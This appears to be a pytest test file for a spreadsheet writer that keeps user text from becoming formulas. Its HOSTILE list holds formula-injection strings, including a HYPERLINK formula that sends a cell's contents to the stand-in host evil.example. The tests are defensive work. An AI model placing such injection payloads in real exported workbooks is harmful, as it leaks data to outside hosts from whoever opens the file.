"""sheets.writing: the streaming workbook writer — text stays text (never a formula, never an
error value, ID numbers exactly), Excel keeps risky text as text when edited (quotePrefix),
and a file appears only when it is complete. No Django needed."""

import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from sheets.writing import Column, WorkbookWriter, clean_text, needs_quote_prefix

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1+1",
    "＝1+1",
    "＋86",
    "－3",
    "＠SUM(A1)",
    "=1",
    "#N/A",
    "#DIV/0!",
]
COLUMNS = [Column("名称", 30), Column("身份证号", 21, text=True), Column("金额"), Column("日期")]


def _write(path, rows, columns=COLUMNS, title="台账"):
    with WorkbookWriter(path) as book:
        sheet = book.sheet(title, columns)
        sheet.extend(rows)
    return path


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        return "".join(archive.read(n).decode("utf-8") for n in names)


def test_hostile_strings_are_string_cells_and_read_back_unchanged(tmp_path):
    path = _write(tmp_path / "x.xlsx", [[text, None, None, None] for text in HOSTILE])

    sheet = openpyxl.load_workbook(path).active
    values = [row[0] for row in sheet.iter_rows(min_row=2)]
    # A carriage return is kept as the line feed XML would read it back as.
    assert [cell.value for cell in values] == [clean_text(text) for text in HOSTILE]
    assert "\n=1+1" in [cell.value for cell in values]
    assert {cell.data_type for cell in values} == {"s"}
    assert "<f>" not in _sheet_xml(path)


def test_text_a_user_could_turn_into_a_formula_is_marked_quote_prefix(tmp_path):
    plain = ["王大山", "630121********0016", "因病、因残", "a=b", "1+1"]
    path = _write(tmp_path / "x.xlsx", [[text, None, None, None] for text in HOSTILE + plain])

    sheet = openpyxl.load_workbook(path).active
    marked = {row[0].value: bool(row[0].quotePrefix) for row in sheet.iter_rows(min_row=2)}
    risky = [clean_text(text) for text in HOSTILE if not text.startswith("#")]
    assert all(marked[text] for text in risky)
    assert not any(marked[text] for text in plain)


def test_id_numbers_round_trip_exactly_as_text_cells_formatted_as_text(tmp_path):
    ids = ["63012119800517001X", "630121198005170016", "110101190001011009", "000000000000000000"]
    path = _write(tmp_path / "x.xlsx", [["某人", number, None, None] for number in ids])

    sheet = openpyxl.load_workbook(path).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == ids
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}


def test_numbers_dates_blanks_and_booleans_keep_their_kind(tmp_path):
    row = ["", None, Decimal("1234.50"), date(2026, 3, 2)]
    path = _write(tmp_path / "x.xlsx", [row, [True, "x", 7, None], [False, "y", 0, None]])

    sheet = openpyxl.load_workbook(path).active
    first, second, third = sheet.iter_rows(min_row=2, values_only=True)
    assert first[0] is None and first[1] is None
    assert first[2] == pytest.approx(1234.5)
    assert first[3] == datetime(2026, 3, 2)
    assert sheet["D2"].number_format == "yyyy-mm-dd"
    assert second[0] == "是" and third[0] == "否"
    assert second[2] == 7 and third[2] == 0


def test_header_is_bold_frozen_and_columns_have_their_widths(tmp_path):
    path = _write(tmp_path / "x.xlsx", [["a", "b", 1, None]])

    sheet = openpyxl.load_workbook(path).active
    assert [cell.value for cell in sheet[1]] == ["名称", "身份证号", "金额", "日期"]
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 30
    assert sheet.column_dimensions["B"].width == 21


def test_characters_xml_cannot_hold_are_dropped_and_long_text_is_cut(tmp_path):
    path = _write(
        tmp_path / "x.xlsx", [["a\x00b\x07c\x1fd", None, None, None], ["长" * 40000] + [None] * 3]
    )

    sheet = openpyxl.load_workbook(path).active
    assert sheet["A2"].value == "abcd"
    assert len(sheet["A3"].value) == 32767
    assert clean_text("第一行\n第二行\t完") == "第一行\n第二行\t完"


def test_the_file_appears_only_when_complete(tmp_path):
    path = tmp_path / "x.xlsx"
    with pytest.raises(RuntimeError), WorkbookWriter(path) as book:
        sheet = book.sheet("台账", COLUMNS)
        sheet.append(["a", "b", 1, None])
        raise RuntimeError("the database went away")

    assert list(tmp_path.iterdir()) == []


def test_a_second_run_replaces_the_first_file(tmp_path):
    path = _write(tmp_path / "x.xlsx", [["旧", None, None, None]])
    _write(path, [["新", None, None, None]])

    assert openpyxl.load_workbook(path).active["A2"].value == "新"
    assert [p.name for p in tmp_path.iterdir()] == ["x.xlsx"]


def test_a_row_of_the_wrong_length_or_an_unknown_type_is_refused(tmp_path):
    with WorkbookWriter(tmp_path / "x.xlsx") as book:
        sheet = book.sheet("台账", COLUMNS)
        with pytest.raises(ValueError):
            sheet.append(["a", "b"])
        with pytest.raises(TypeError):
            sheet.append([object(), None, None, None])
        with pytest.raises(TypeError):
            sheet.append([None, None, None, datetime(2026, 3, 2, 10, 0)])


def test_several_sheets_and_a_sheet_name_excel_would_refuse(tmp_path):
    path = tmp_path / "x.xlsx"
    with WorkbookWriter(path) as book:
        book.sheet("汇总/2026:3月?", [Column("项目")]).append(["a"])
        book.sheet("明细" * 20, [Column("项目")]).append(["b"])

    names = openpyxl.load_workbook(path).sheetnames
    assert names[0] == "汇总_2026_3月_"
    assert len(names[1]) == 31


def test_needs_quote_prefix_knows_the_formula_starts():
    starts = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
    assert all(needs_quote_prefix(text + "1") for text in starts)
    assert not any(needs_quote_prefix(text) for text in ["", "a", "1", "（一）", " =1"])
